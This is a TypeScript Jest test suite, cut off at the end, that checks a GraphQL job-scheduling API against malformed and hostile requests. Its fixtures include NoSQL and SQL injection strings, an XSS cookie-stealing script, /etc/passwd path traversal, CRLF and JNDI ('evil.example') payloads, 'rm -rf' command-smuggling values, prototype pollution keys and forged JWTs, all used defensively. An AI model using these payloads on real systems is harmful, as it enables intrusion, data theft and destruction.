// Covers: src/api/formatError.ts, src/api/nestingLimits.ts, src/api/noSubscriptionsOverHttp.ts, src/api/queryLimits.ts,
// src/api/validationRules.ts, src/api/webSocketServer.ts, src/domain/nesting.ts
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { generateKeyPairSync } from 'node:crypto';
import jwt from 'jsonwebtoken';
import { MongoClient, ObjectId } from 'mongodb';
import { fromGlobalId } from '../../src/ids/globalId.js';
import { MONGO_URL, TEST_JWT_SECRET } from '../support/env.js';
import WebSocket from 'ws';
import { gqlOk } from '../support/graphqlClient.js';
import { wsClient } from '../support/subscriptions.js';
import { startTestKairos, tokenFor, uniqueName, type TestKairos } from '../support/harness.js';

/**
 * The hostile-input suite: malformed and hostile requests, generated table-style. Each one must get
 * a clear GraphQL error with a known code (or, for a value that is fine to keep, be stored inertly
 * and read back byte-identical), never a 5xx, a stack trace or an internal message, and must leave
 * nothing half-written: the tenant's jobs and executions are counted through the API around each.
 */

const JOB_FIELDS = `id name description payload schedule { cron timezone intervalSeconds }
  target { __typename ... on HttpTarget { url method headers { name value } } ... on HandlerTarget { handler } }`;
const CREATE = `mutation($input: CreateJobInput!) { createJob(input: $input) { job { ${JOB_FIELDS} } } }`;
const UPDATE = `mutation($input: UpdateJobInput!) { updateJob(input: $input) { job { ${JOB_FIELDS} } } }`;
const TRIGGER = `mutation($id: ID!, $payload: JSON) { triggerJob(id: $id, payload: $payload) { execution { id status } } }`;
const COUNTS = `{ jobs { totalCount } executionStats(since: "2000-01-01T00:00:00Z") { total } }`;

/** Codes a refused request may carry; INTERNAL_SERVER_ERROR is never acceptable here. */
const CLEAR_CODES = ['UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND', 'BAD_USER_INPUT', 'QUOTA_EXCEEDED', 'RATE_LIMITED', 'CONFLICT'];

const LONG_UNICODE = '𝕂ä囲🙂'.repeat(5000);
/** Strings that look like injections of every kind; each goes into every string field. */
const HOSTILE_STRINGS: [string, string][] = [
  ['a Mongo operator in JSON', '{"$gt":""}'],
  ['a $where clause', '{"$where":"sleep(1000) || true"}'],
  ['SQL injection', "'; DROP TABLE jobs; --"],
  ['a script tag', '<script>alert(document.cookie)</script>'],
  ['path traversal', '../../../../etc/passwd'],
  ['a NUL byte', 'job\u0000name'],
  ['CRLF header injection', 'x\r\nSet-Cookie: session=stolen'],
  ['a lone surrogate', 'bad\ud800half'],
  ['a template/JNDI lookup', '${jndi:ldap://evil.example/a}{{7*7}}'],
  ['very long unicode', LONG_UNICODE],
  ['a dotted $ key', '$set.tenantId'],
];

/** Operator-looking JSON payloads: all must be stored as data, never interpreted. */
const HOSTILE_PAYLOADS: [string, unknown][] = [
  ['$where', { $where: 'function() { return true }' }],
  ['$set of the tenant', { $set: { tenantId: 'another-tenant' } }],
  ['$gt in a nested object', { filter: { createdAt: { $gt: '' } } }],
  ['keys with dots', { 'a.b.c': 1, 'x.$y': [1, 2] }],
  ['keys with a leading $', { $ne: null, $or: [{ a: 1 }], $expr: { $eq: [1, 1] } }],
  ['__proto__ and constructor keys', JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"x":1}}}')],
  ['$regex and $options', { name: { $regex: '.*', $options: 'i' } }],
  ['an array of operators', [{ $unset: '' }, { $rename: { a: 'b' } }]],
  ['a bare string that looks like JSON', '{"$gt":""}'],
  ['NUL and control characters', { 'k\u0000': 'v\u0000\u0001\u001f' }],
];

interface RawResponse {
  status: number;
  text: string;
  json: { data?: Record<string, any> | null; errors?: { message: string; extensions?: Record<string, unknown> }[] } | null;
}

async function post(url: string, body: string, headers: Record<string, string> = {}, method = 'POST'): Promise<RawResponse> {
  const response = await fetch(url, {
    method,
    headers: { 'content-type': 'application/json', ...headers },
    body: method === 'GET' ? undefined : body,
  });
  const text = await response.text();
  let json: RawResponse['json'];
  try {
    json = JSON.parse(text);
  } catch {
    json = null;
  }
  return { status: response.status, text, json };
}

function bearer(token: string): Record<string, string> {
  return { authorization: `Bearer ${token}` };
}

/** A refusal: not a 5xx, a JSON GraphQL error with a known code, no stack trace, no internal message. */
function expectClearError(response: RawResponse, codes: string[] = CLEAR_CODES): string {
  expect(response.status).toBeLessThan(500);
  expect(response.json).not.toBeNull();
  const error = response.json!.errors?.[0];
  expect(error).toBeDefined();
  expect(codes).toContain(error!.extensions?.code);
  expect(error!.message.length).toBeGreaterThan(5);
  // Nothing that looks like a stack frame or an internal exception leaks out, and no giant echo of the input.
  expect(response.text).not.toMatch(/\bat [^\s]+ \(?[^\s]*\.(ts|js):\d+/);
  expect(response.text).not.toMatch(/stacktrace|MongoServerError|TypeError|RangeError|ReferenceError|ECONNREFUSED/);
  expect(error!.message.length).toBeLessThan(2000);
  return error!.extensions!.code as string;
}

function b64(value: object): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}

describe('hostile input: a clear error or inert storage, never a 5xx or a half write', () => {
  let k: TestKairos;
  let mongo: MongoClient;
  const tenant = uniqueName('hostile');
  const member = tokenFor(tenant, 'member');
  let targetJobId = '';
  let stored = { jobs: 0, executions: 0 };

  async function counts(): Promise<{ jobs: number; executions: number }> {
    const data = await gqlOk(k.url, member, COUNTS);
    return { jobs: data.jobs.totalCount, executions: data.executionStats.total };
  }

  /** Sends a GraphQL request and checks the tenant's counts moved by exactly what the answer says was created. */
  async function send(body: unknown, headers: Record<string, string> = bearer(member)): Promise<RawResponse> {
    const response = await post(k.url, typeof body === 'string' ? body : JSON.stringify(body), headers);
    const created = response.json?.data?.createJob ? 1 : 0;
    const triggered = response.json?.data?.triggerJob ? 1 : 0;
    stored = { jobs: stored.jobs + created, executions: stored.executions + triggered };
    expect(await counts()).toEqual(stored);
    return response;
  }

  beforeAll(async () => {
    // API only: nothing runs, so what a request wrote is exactly what the counts show. Writes are
    // not rate-limited here (quotas.test.ts covers that): this suite sends hundreds of them.
    k = await startTestKairos('hostile', { roles: ['api'], env: { DEFAULT_MAX_EXECUTIONS_PER_MINUTE: '1000000' } });
    mongo = new MongoClient(MONGO_URL);
    const created = await gqlOk(k.url, member, CREATE, {
      input: { name: 'target of updates', schedule: { intervalSeconds: 3600 }, target: { handler: 'noop' }, paused: true },
    });
    targetJobId = created.createJob.job.id;
    stored = await counts();
  });
  afterAll(async () => {
    await mongo?.close();
    await k?.stop();
  });

  describe('bad tokens get UNAUTHENTICATED', () => {
    const now = Math.floor(Date.now() / 1000);
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const unsigned = (claims: object) => `${b64({ alg: 'none', typ: 'JWT' })}.${b64(claims)}.`;
    const good = { tid: 'victim', role: 'admin', sub: 'x', exp: now + 600 };
    const tokens: [string, Record<string, string>][] = [
      ['no Authorization header', {}],
      ['an empty bearer', { authorization: 'Bearer ' }],
      ['garbage', bearer('garbage')],
      ['three garbage segments', bearer('a.b.c')],
      ['Basic credentials', { authorization: `Basic ${Buffer.from('admin:admin').toString('base64')}` }],
      ['alg none', bearer(unsigned(good))],
      ['alg none with a signature part', bearer(`${unsigned(good)}c2ln`)],
      ['a wrong HS256 secret', bearer(jwt.sign(good, 'not-the-secret-but-long-enough'))],
      ['HS512 with the right secret', bearer(jwt.sign(good, TEST_JWT_SECRET, { algorithm: 'HS512' }))],
      ['RS256 signed by a stranger', bearer(jwt.sign(good, privateKey, { algorithm: 'RS256' }))],
      ['an expired token', bearer(jwt.sign({ ...good, exp: now - 600 }, TEST_JWT_SECRET))],
      ['no exp', bearer(jwt.sign({ tid: 'victim', role: 'admin' }, TEST_JWT_SECRET))],
      ['no tid', bearer(jwt.sign({ role: 'admin', exp: now + 600 }, TEST_JWT_SECRET))],
      ['a tid that is an operator object', bearer(jwt.sign({ ...good, tid: { $ne: null } }, TEST_JWT_SECRET))],
      ['a tid with injection characters', bearer(jwt.sign({ ...good, tid: "'; DROP TABLE tenants; --" }, TEST_JWT_SECRET))],
      ['a tid of 10 000 characters', bearer(jwt.sign({ ...good, tid: 't'.repeat(10_000) }, TEST_JWT_SECRET))],
      ['an unknown role', bearer(jwt.sign({ ...good, role: 'root' }, TEST_JWT_SECRET))],
      ['a role that is an array', bearer(jwt.sign({ ...good, role: ['admin'] }, TEST_JWT_SECRET))],
      ['a token not yet valid (nbf in an hour)', bearer(jwt.sign({ ...good, nbf: now + 3600 }, TEST_JWT_SECRET))],
      [
        'a tampered payload',
        bearer(
          (() => {
            const [h, , s] = jwt.sign({ ...good, tid: tenant }, TEST_JWT_SECRET).split('.');
            return `${h}.${b64({ ...good, tid: tenant, role: 'admin' })}.${s}`;
          })(),
        ),
      ],
      ['a made-up API key', bearer(`kairos_${'A'.repeat(43)}`)],
    ];
    it.each(tokens)('%s', async (_label, headers) => {
      const response = await send(
        { query: CREATE, variables: { input: { name: 'intruder', schedule: { intervalSeconds: 60 }, target: { handler: 'noop' } } } },
        headers,
      );
      expect(expectClearError(response)).toBe('UNAUTHENTICATED');
      expect(response.json!.data ?? null).toBeNull();
      const token = headers.authorization?.split(' ')[1];
      if (token && token.length > 10) expect(response.text).not.toContain(token);
    });
  });

  describe('malformed requests', () => {
    const cases: [string, string, Record<string, string>][] = [
      ['a body over 1 MiB', JSON.stringify({ query: '{ viewer { tenantId } }', variables: { pad: 'x'.repeat(1024 * 1024 + 10) } }), {}],
      ['invalid JSON', '{"query": "{ viewer { tenantId } }"', {}],
      ['a batch (array body)', JSON.stringify([{ query: '{ viewer { tenantId } }' }, { query: '{ viewer { role } }' }]), {}],
      ['an empty batch', '[]', {}],
      ['a JSON string body', '"{ viewer { tenantId } }"', {}],
      ['a JSON number body', '42', {}],
      ['a JSON null body', 'null', {}],
      ['an object without a query', '{}', {}],
      ['a query that is an operator object', JSON.stringify({ query: { $where: 'true' } }), {}],
      ['a query that is an array', JSON.stringify({ query: ['{ viewer { tenantId } }'] }), {}],
      ['variables that are a string', JSON.stringify({ query: '{ viewer { tenantId } }', variables: '{"a":1}' }), {}],
      ['variables that are an array', JSON.stringify({ query: '{ viewer { tenantId } }', variables: [1, 2] }), {}],
      ['an unknown operationName', JSON.stringify({ query: 'query A { viewer { tenantId } }', operationName: 'B' }), {}],
      ['two operations and no operationName', JSON.stringify({ query: 'query A { viewer { tenantId } } query B { viewer { role } }' }), {}],
      ['a syntax error', JSON.stringify({ query: '{ viewer { tenantId ' }), {}],
      ['an empty query', JSON.stringify({ query: '' }), {}],
      ['a subscription over HTTP', JSON.stringify({ query: 'subscription { executionUpdated { status } }' }), {}],
      ['a text/plain body (CSRF)', JSON.stringify({ query: '{ viewer { tenantId } }' }), { 'content-type': 'text/plain' }],
      [
        'extensions that are an operator object',
        JSON.stringify({ query: '{ viewer { tenantId } }', extensions: { persistedQuery: { $gt: '' } } }),
        {},
      ],
    ];
    it.each(cases)('%s', async (_label, body, headers) => {
      expectClearError(await send(body, { ...bearer(member), ...headers }), ['BAD_USER_INPUT']);
    });

    it('a createJob with a 2 MB payload gets 413 naming the body limit and the payload limit', async () => {
      const input = { name: 'x', schedule: { intervalSeconds: 60 }, target: { handler: 'noop' }, payload: { blob: 'x'.repeat(2_000_000) } };
      const response = await send({ query: CREATE, variables: { input } });
      expect(response.status).toBe(413);
      expect(expectClearError(response, ['BAD_USER_INPUT'])).toBe('BAD_USER_INPUT');
      // The same payload limit a 300 KB payload is refused with, so the client knows what to aim for.
      expect(response.json!.errors?.[0]?.message).toBe("Request body over 1 MiB; a job's payload must be at most 256 KiB of JSON");
    });

    it('request headers over 16 KiB get 431 and the server stays up', async () => {
      const response = await post(k.url, JSON.stringify({ query: '{ viewer { tenantId } }' }), {
        ...bearer(member),
        'x-pad': 'x'.repeat(32 * 1024),
      });
      expect(response.status).toBe(431);
      expect(await counts()).toEqual(stored);
    });

    it('a mutation sent with GET', async () => {
      const query = encodeURIComponent('mutation { pauseJob(id: "x") { job { id } } }');
      const response = await post(`${k.url}?query=${query}`, '', { ...bearer(member), 'apollo-require-preflight': 'true' }, 'GET');
      expect(response.status).toBeLessThan(500);
      expect(response.status).toBeGreaterThanOrEqual(400);
      expect(await counts()).toEqual(stored);
    });
  });

  describe('deep, wide, costly and aliased documents get BAD_USER_INPUT', () => {
    const nest = (levels: number) =>
      `{ jobs { edges { node { ${'executions { edges { node { job { '.repeat(levels)}id${' } } } }'.repeat(levels)} } } } }`;
    const fragmentBomb = (() => {
      const levels = 25;
      const fragments = Array.from(
        { length: levels },
        (_, i) => `fragment F${i} on Query { ${i === levels - 1 ? 'viewer { tenantId }' : `...F${i + 1} ...F${i + 1}`} }`,
      );
      return `query { ...F0 } ${fragments.join(' ')}`;
    })();
    const documents: [string, string][] = [
      ['nested 15 levels', nest(4)],
      ['nested 300 levels', nest(100)],
      ['501 fields', `{ viewer { ${'tenantId '.repeat(501)} } }`],
      ['31 aliases', `{ ${Array.from({ length: 31 }, (_, i) => `a${i}: viewer { tenantId }`).join(' ')} }`],
      ['31 aliased mutations', `mutation { ${Array.from({ length: 31 }, (_, i) => `t${i}: pauseJob(id: "x") { job { id } }`).join(' ')} }`],
      [
        'a connection inside a connection of 100 each',
        '{ jobs(first: 100) { edges { node { executions(first: 100) { edges { node { id status attempts { number } } } } } } } }',
      ],
      [
        'pages of variable size, nested',
        'query($n: Int) { jobs(first: $n) { edges { node { executions(first: $n) { edges { node { id } } } } } } }',
      ],
      ['a fragment bomb', fragmentBomb],
      ['a fragment cycle', 'query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }'],
      ['over 10 000 tokens', `{ viewer { ${'__typename '.repeat(10_001)} } }`],
      [
        'a huge inline list argument',
        `{ jobs(filter: { statuses: [${Array.from({ length: 12_000 }, () => 'ACTIVE').join(',')}] }) { totalCount } }`,
      ],
      ['a repeated directive', '{ viewer @include(if: true) @include(if: true) { tenantId } }'],
      ['an unknown directive', '{ viewer @exec(cmd: "rm -rf /") { tenantId } }'],
      ['an unknown field', '{ viewer { password } }'],
      ['first above 100', '{ jobs(first: 1000000) { totalCount } }'],
      ['a negative last', '{ jobs(last: -5) { totalCount } }'],
      ['a cursor that is an operator object in base64', `{ jobs(after: "${b64({ $gt: '' })}") { totalCount } }`],
      ['a cursor of injection text', `{ executions(after: "'; DROP TABLE executions; --") { edges { cursor } } }`],
    ];
    it.each(documents)('%s', async (_label, query) => {
      expectClearError(await send({ query }), ['BAD_USER_INPUT']);
    });

    it.each([
      [
        'a page of 100 executions with every field and their attempts',
        `{ executions(first: 100) { edges { cursor node { id jobId status trigger scheduledFor queuedAt startedAt finishedAt durationMs startLagMs attempt maxAttempts nextAttemptAt error reason result createdAt updatedAt job { id name } attempts { number startedAt finishedAt outcome error httpStatus workerId } } } pageInfo { hasNextPage endCursor } } }`,
      ],
      [
        'a page of 100 jobs with every field',
        `{ jobs(first: 100) { totalCount edges { cursor node { ${JOB_FIELDS} status nextRunAt lastRunAt createdAt updatedAt workload timeoutSeconds retryPolicy { maxAttempts } } } } }`,
      ],
      [
        '20 jobs with their 20 latest executions',
        '{ jobs { edges { node { id name executions { edges { node { id status scheduledFor startedAt finishedAt attempt error } } } } } } }',
      ],
    ])('still accepts %s', async (_label, query) => {
      const response = await send({ query });
      expect(response.json?.errors).toBeUndefined();
    });
  });

  describe('subscriptions over WebSocket', () => {
    const subscriptions: [string, string, Record<string, unknown>?][] = [
      ['over 10 000 tokens', `subscription { executionUpdated { ${'__typename '.repeat(10_001)} } }`],
      [
        'nested 15 levels',
        `subscription { executionUpdated { execution { ${'job { executions { edges { node { '.repeat(3)}id${' } } } }'.repeat(3)} } } }`,
      ],
      ['31 aliases', `subscription { executionUpdated { ${Array.from({ length: 31 }, (_, i) => `a${i}: status`).join(' ')} } }`],
      ['an unknown field', 'subscription { executionUpdated { password } }'],
      ['a syntax error', 'subscription { executionUpdated { status '],
      [
        'a jobId variable that is an operator object',
        'subscription($j: ID) { executionUpdated(jobId: $j) { status } }',
        { j: { $ne: null } },
      ],
      [
        'statuses outside the enum',
        'subscription($s: [ExecutionStatus!]) { executionUpdated(statuses: $s) { status } }',
        { s: ['RUNNING', '$where'] },
      ],
    ];
    it.each(subscriptions)('%s gets a clear error', async (_label, query, variables = {}) => {
      const client = wsClient(k.url, member);
      const outcome = await new Promise<unknown>((resolve) => {
        client.subscribe(
          { query, variables },
          { next: (value) => resolve(value.errors), error: (error) => resolve(error), complete: () => resolve('complete') },
        );
      });
      await client.dispose();
      const errors = outcome as { message: string; extensions?: { code?: string } }[];
      expect(Array.isArray(errors)).toBe(true);
      expect(['BAD_USER_INPUT', 'NOT_FOUND']).toContain(errors[0].extensions?.code);
    });

    it('refuses a subscription past the per-socket cap (50 by default) with QUOTA_EXCEEDED', async () => {
      const client = wsClient(k.url, member);
      const sink = { next: () => undefined, error: () => undefined, complete: () => undefined };
      const open = Array.from({ length: 50 }, () => client.subscribe({ query: 'subscription { executionUpdated { status } }' }, sink));
      const outcome = await new Promise<unknown>((resolve) => {
        client.subscribe(
          { query: 'subscription { executionUpdated { status } }' },
          { next: (value) => resolve(value.errors), error: resolve, complete: () => resolve('complete') },
        );
      });
      for (const unsubscribe of open) unsubscribe();
      await client.dispose();
      expect((outcome as { extensions?: { code?: string } }[])[0].extensions?.code).toBe('QUOTA_EXCEEDED');
    });

    it('closes the socket on a message over 1 MiB', async () => {
      const socket = new WebSocket(k.url.replace(/^http/, 'ws'), 'graphql-transport-ws');
      await new Promise((resolve) => socket.once('open', resolve));
      socket.send(
        JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${member}`, pad: 'x'.repeat(1024 * 1024 + 10) } }),
      );
      const code = await new Promise<number>((resolve) => socket.once('close', (closeCode: number) => resolve(closeCode)));
      expect(code).toBe(1009);
    });
  });

  describe('operator-looking values where GraphQL expects scalars are refused', () => {
    const cases: [string, string, Record<string, unknown>][] = [
      [
        'a name that is an object',
        CREATE,
        { input: { name: { $gt: '' }, schedule: { intervalSeconds: 60 }, target: { handler: 'noop' } } },
      ],
      ['an id that is an object', TRIGGER, { id: { $ne: null } }],
      [
        'a namePrefix that is a $regex',
        'query($f: JobFilter) { jobs(filter: $f) { totalCount } }',
        { f: { namePrefix: { $regex: '.*' } } },
      ],
      ['statuses with an operator', 'query($f: JobFilter) { jobs(filter: $f) { totalCount } }', { f: { statuses: [{ $in: ['ACTIVE'] }] } }],
      ['first as an operator', 'query($n: Int) { jobs(first: $n) { totalCount } }', { n: { $gt: 0 } }],
      [
        'an unknown input field $where',
        CREATE,
        { input: { name: 'x', schedule: { intervalSeconds: 60 }, target: { handler: 'noop' }, $where: 'true' } },
      ],
      [
        'an extra tenantId input field',
        CREATE,
        { input: { name: 'x', schedule: { intervalSeconds: 60 }, target: { handler: 'noop' }, tenantId: 'victim' } },
      ],
      [
        'a timeout that is a string',
        CREATE,
        { input: { name: 'x', schedule: { intervalSeconds: 60 }, target: { handler: 'noop' }, timeoutSeconds: '60; rm -rf' } },
      ],
      ['an interval of 2^53', CREATE, { input: { name: 'x', schedule: { intervalSeconds: 2 ** 53 }, target: { handler: 'noop' } } }],
      ['a runAt with an operator', CREATE, { input: { name: 'x', schedule: { runAt: { $date: 0 } }, target: { handler: 'noop' } } }],
      [
        'a method outside the enum',
        CREATE,
        { input: { name: 'x', schedule: { intervalSeconds: 60 }, target: { http: { url: 'https://example.com', method: 'TRACE' } } } },
      ],
      [
        '33 headers',
        CREATE,
        {
          input: {
            name: 'x',
            schedule: { intervalSeconds: 60 },
            target: {
              http: { url: 'https://example.com', headers: Array.from({ length: 33 }, (_, i) => ({ name: `X-H${i}`, value: 'v' })) },
            },
          },
        },
      ],
      [
        'headers of 64 KiB in all',
        CREATE,
        {
          input: {
            name: 'x',
            schedule: { intervalSeconds: 60 },
            target: {
              http: {
                url: 'https://example.com',
                headers: Array.from({ length: 16 }, (_, i) => ({ name: `X-H${i}`, value: 'v'.repeat(4096) })),
              },
            },
          },
        },
      ],
      [
        'a name of 201 characters',
        CREATE,
        { input: { name: 'n'.repeat(201), schedule: { intervalSeconds: 60 }, target: { handler: 'noop' } } },
      ],
      [
        'a payload over 256 KiB',
        CREATE,
        { input: { name: 'x', schedule: { intervalSeconds: 60 }, target: { handler: 'noop' }, payload: { blob: 'x'.repeat(256 * 1024) } } },
      ],
      ['a trigger payload over 256 KiB', TRIGGER, { id: '', payload: 'x'.repeat(256 * 1024 + 1) }],
      [
        'a file:// URL',
        CREATE,
        { input: { name: 'x', schedule: { intervalSeconds: 60 }, target: { http: { url: 'file:///etc/passwd' } } } },
      ],
      [
        'a javascript: URL',
        CREATE,
        { input: { name: 'x', schedule: { intervalSeconds: 60 }, target: { http: { url: 'javascript:alert(1)' } } } },
      ],
      [
        'a URL with credentials',
        CREATE,
        { input: { name: 'x', schedule: { intervalSeconds: 60 }, target: { http: { url: 'https://admin:hunter2@example.com/' } } } },
      ],
      [
        'a reserved header (Host)',
        CREATE,
        {
          input: {
            name: 'x',
            schedule: { intervalSeconds: 60 },
            target: { http: { url: 'https://example.com', headers: [{ name: 'Host', value: 'evil.example' }] } },
          },
        },
      ],
      [
        'a signature header override',
        CREATE,
        {
          input: {
            name: 'x',
            schedule: { intervalSeconds: 60 },
            target: { http: { url: 'https://example.com', headers: [{ name: 'X-Kairos-Signature', value: 'forged' }] } },
          },
        },
      ],
    ];
    it.each(cases)('%s', async (_label, query, variables) => {
      if (query === TRIGGER && variables.id === '') variables = { ...variables, id: targetJobId };
      expectClearError(await send({ query, variables }), ['BAD_USER_INPUT', 'NOT_FOUND']);
    });
  });

  it.each([100, 100_000])('refuses a payload nested %i levels deep', async (levels) => {
    // Spliced in as text: building it as an object would overflow the test's own stack.
    const body = JSON.stringify({
      query: CREATE,
      variables: { input: { name: 'deep', schedule: { intervalSeconds: 60 }, target: { handler: 'noop' }, payload: 'DEEP' } },
    });
    expectClearError(await send(body.replace('"DEEP"', '['.repeat(levels) + ']'.repeat(levels))), ['BAD_USER_INPUT']);
  });

  describe('injection-looking strings in every string field', () => {
    const base = { name: 'inert', schedule: { intervalSeconds: 3600 }, target: { handler: 'noop' }, paused: true };
    const http = (headers: { name: string; value: string }[], url = 'https://example.com/hook') => ({ http: { url, headers } });
    /** Where a string goes in createJob, and where it is read back from the job. */
    const createFields: [string, (s: string) => Record<string, unknown>, (job: Record<string, any>) => unknown][] = [
      ['name', (s) => ({ ...base, name: s }), (j) => j.name],
      ['description', (s) => ({ ...base, description: s }), (j) => j.description],
      ['idempotencyKey', (s) => ({ ...base, idempotencyKey: s }), () => undefined],
      ['schedule.cron', (s) => ({ ...base, schedule: { cron: s } }), (j) => j.schedule.cron],
      ['schedule.timezone', (s) => ({ ...base, schedule: { cron: '0 * * * *', timezone: s } }), (j) => j.schedule.timezone],
      ['target.handler', (s) => ({ ...base, target: { handler: s } }), (j) => j.target.handler],
      ['target.http.url', (s) => ({ ...base, target: http([], s) }), (j) => j.target.url],
      ['target.http.headers.name', (s) => ({ ...base, target: http([{ name: s, value: 'v' }]) }), (j) => j.target.headers[0].name],
      ['target.http.headers.value', (s) => ({ ...base, target: http([{ name: 'X-Test', value: s }]) }), (j) => j.target.headers[0].value],
      ['payload', (s) => ({ ...base, payload: { text: s } }), (j) => j.payload.text],
    ];
    const createCases = createFields.flatMap(([field, input, read]) =>
      HOSTILE_STRINGS.map(([what, s]) => [`createJob ${field}: ${what}`, s, input, read] as const),
    );
    it.each(createCases)('%s', async (_label, value, input, read) => {
      const response = await send({ query: CREATE, variables: { input: input(value) } });
      const job = response.json?.data?.createJob?.job;
      if (!job) return void expectClearError(response, ['BAD_USER_INPUT']);
      // Stored: it must come back byte-identical, from the mutation and from a fresh read.
      const again = (await gqlOk(k.url, member, `query($id: ID!) { job(id: $id) { ${JOB_FIELDS} } }`, { id: job.id })).job;
      const expected = read({
        name: value,
        description: value,
        schedule: { cron: value, timezone: value },
        target: { handler: value, url: value, headers: [{ name: value, value }] },
        payload: { text: value },
      });
      if (expected !== undefined) {
        expect(read(job)).toBe(expected);
        expect(read(again)).toBe(expected);
      } else {
        // An idempotency key is not readable: it works as a plain key, returning the same job again.
        // (Sent around `send`, whose bookkeeping counts every answered createJob as a new job.)
        const repeated = await gqlOk(k.url, member, CREATE, { input: input(value) });
        expect(repeated.createJob.job.id).toBe(job.id);
      }
    });

    const updateFields = createFields.filter(([field]) => field !== 'idempotencyKey');
    const updateCases = updateFields.flatMap(([field, input, read]) =>
      HOSTILE_STRINGS.map(([what, s]) => [`updateJob ${field}: ${what}`, s, input, read] as const),
    );
    it.each(updateCases)('%s', async (_label, value, input, read) => {
      const before = (await gqlOk(k.url, member, `query($id: ID!) { job(id: $id) { ${JOB_FIELDS} } }`, { id: targetJobId })).job;
      const { paused: _paused, ...fields } = input(value);
      const response = await send({ query: UPDATE, variables: { input: { id: targetJobId, ...fields } } });
      const after = (await gqlOk(k.url, member, `query($id: ID!) { job(id: $id) { ${JOB_FIELDS} } }`, { id: targetJobId })).job;
      if (!response.json?.data?.updateJob) {
        expectClearError(response, ['BAD_USER_INPUT']);
        expect(after).toEqual(before);
        return;
      }
      const expected = read({
        name: value,
        description: value,
        schedule: { cron: value, timezone: value },
        target: { handler: value, url: value, headers: [{ name: value, value }] },
        payload: { text: value },
      });
      expect(read(after)).toBe(expected);
    });

    it.each(HOSTILE_STRINGS)('triggerJob id: %s', async (_label, value) => {
      expectClearError(await send({ query: TRIGGER, variables: { id: value } }), ['NOT_FOUND', 'BAD_USER_INPUT']);
    });

    it.each(HOSTILE_STRINGS)('triggerJob payload: %s', async (_label, value) => {
      const response = await send({ query: TRIGGER, variables: { id: targetJobId, payload: { text: value } } });
      const execution = response.json?.data?.triggerJob?.execution;
      if (!execution) return void expectClearError(response, ['BAD_USER_INPUT']);
      const doc = await mongo
        .db(k.dbName)
        .collection('executions')
        .findOne({ _id: new ObjectId(fromGlobalId(execution.id)!.id) });
      expect(doc?.payloadJson).toBe(JSON.stringify({ text: value }));
    });

    it.each(HOSTILE_STRINGS)('createApiKey name: %s', async (_label, value) => {
      const admin = tokenFor(tenant, 'admin');
      const response = await send(
        { query: 'mutation($n: String!) { createApiKey(role: VIEWER, name: $n) { apiKey { id name } } }', variables: { n: value } },
        bearer(admin),
      );
      const key = response.json?.data?.createApiKey?.apiKey;
      if (!key) return void expectClearError(response, ['BAD_USER_INPUT']);
      expect(key.name).toBe(value);
      const listed = (await gqlOk(k.url, admin, '{ apiKeys { id name } }')).apiKeys.find((a: { id: string }) => a.id === key.id);
      expect(listed.name).toBe(value);
    });

    const readers: [string, string, (s: string) => Record<string, unknown>][] = [
      ['job(id)', 'query($v: ID!) { job(id: $v) { id } }', (s) => ({ v: s })],
      ['execution(id)', 'query($v: ID!) { execution(id: $v) { id } }', (s) => ({ v: s })],
      ['node(id)', 'query($v: ID!) { node(id: $v) { id } }', (s) => ({ v: s })],
      ['jobs namePrefix', 'query($v: String) { jobs(filter: { namePrefix: $v }) { totalCount } }', (s) => ({ v: s })],
      ['executions jobId filter', 'query($v: ID) { executions(filter: { jobId: $v }) { edges { cursor } } }', (s) => ({ v: s })],
      ['pauseJob id', 'mutation($v: ID!) { pauseJob(id: $v) { job { id } } }', (s) => ({ v: s })],
      ['deleteJob id', 'mutation($v: ID!) { deleteJob(id: $v) { deletedJobId } }', (s) => ({ v: s })],
      ['cancelExecution id', 'mutation($v: ID!) { cancelExecution(id: $v) { execution { id } } }', (s) => ({ v: s })],
      ['retryExecution id', 'mutation($v: ID!) { retryExecution(id: $v) { execution { id } } }', (s) => ({ v: s })],
    ];
    const readerCases = readers.flatMap(([where, query, variables]) =>
      HOSTILE_STRINGS.map(([what, s]) => [`${where}: ${what}`, query, variables(s)] as const),
    );
    // Asked by a tenant with no jobs: whatever a lookup of nonsense does, it can only find nothing.
    const stranger = tokenFor(uniqueName('stranger'), 'member');
    it.each(readerCases)('%s', async (_label, query, variables) => {
      const response = await send({ query, variables }, bearer(stranger));
      expect(response.status).toBeLessThan(500);
      if (response.json?.errors) expectClearError(response, ['NOT_FOUND', 'BAD_USER_INPUT']);
      else expect(JSON.stringify(response.json?.data)).toMatch(/null|"totalCount":0|"edges":\[\]/);
    });
  });

  describe('operator-looking JSON payloads are stored as data', () => {
    it.each(HOSTILE_PAYLOADS)('createJob payload: %s', async (_label, payload) => {
      const response = await send({
        query: CREATE,
        variables: { input: { name: 'payload', schedule: { intervalSeconds: 3600 }, target: { handler: 'noop' }, paused: true, payload } },
      });
      const job = response.json?.data?.createJob?.job;
      expect(job).toBeDefined();
      const again = (await gqlOk(k.url, member, `query($id: ID!) { job(id: $id) { payload } }`, { id: job.id })).job;
      expect(JSON.stringify(job.payload)).toBe(JSON.stringify(payload));
      expect(JSON.stringify(again.payload)).toBe(JSON.stringify(payload));
    });

    it.each(HOSTILE_PAYLOADS)('updateJob payload: %s', async (_label, payload) => {
      const response = await send({ query: UPDATE, variables: { input: { id: targetJobId, payload } } });
      expect(JSON.stringify(response.json?.data?.updateJob.job.payload)).toBe(JSON.stringify(payload));
    });

    it.each(HOSTILE_PAYLOADS)('triggerJob payload: %s', async (_label, payload) => {
      const response = await send({ query: TRIGGER, variables: { id: targetJobId, payload } });
      const execution = response.json?.data?.triggerJob?.execution;
      const doc = await mongo
        .db(k.dbName)
        .collection('executions')
        .findOne({ _id: new ObjectId(fromGlobalId(execution.id)!.id) });
      expect(doc?.payloadJson).toBe(JSON.stringify(payload));
      expect(doc?.tenantId).toBe(tenant);
    });

    it('kept the tenant and nothing else changed', async () => {
      const other = await mongo
        .db(k.dbName)
        .collection('jobs')
        .countDocuments({ tenantId: { $ne: tenant } });
      expect(other).toBe(0);
      expect(await counts()).toEqual(stored);
    });
  });
});

describe('production mode: no introspection, no schema hints, no internals', () => {
  let k: TestKairos;
  const member = tokenFor(uniqueName('prod'), 'member');

  beforeAll(async () => {
